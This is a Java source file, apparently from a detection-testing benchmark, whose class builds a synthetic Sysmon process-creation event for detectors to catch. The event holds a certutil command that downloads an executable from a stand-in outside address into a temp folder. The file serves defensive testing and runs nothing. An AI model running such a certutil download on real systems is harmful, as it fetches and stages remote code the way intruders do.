package dev.vedette.bench.platform;

import java.time.Instant;

/** An event that detection must report: a known program that fetches a file. */
final class Probe {
  private Probe() {}

  /** What tells one from the others, wherever it is seen. */
  static String mark(long number) {
    return "probe-%08d".formatted(number);
  }

  static String event(String mark, Instant time) {
    return """
    {"TimeCreated":"%s","Hostname":"BENCH-01.example","Channel":"Microsoft-Windows-Sysmon/Operational",\
    "EventID":1,"SourceName":"Microsoft-Windows-Sysmon","ProcessId":"7049",\
    "Image":"C:\\\\Windows\\\\System32\\\\certutil.exe","OriginalFileName":"CertUtil.exe",\
    "CommandLine":"certutil.exe -urlcache -split -f http://198.51.100.7/%s.exe C:\\\\Temp\\\\%s.exe",\
    "CurrentDirectory":"C:\\\\Temp\\\\","User":"EXAMPLE\\\\bench","LogonId":"0x41031",\
    "IntegrityLevel":"Medium","ParentProcessId":"2044",\
    "ParentImage":"C:\\\\Windows\\\\System32\\\\cmd.exe","ParentCommandLine":"cmd.exe"}\
    """
        .formatted(time, mark, mark);
  }
}
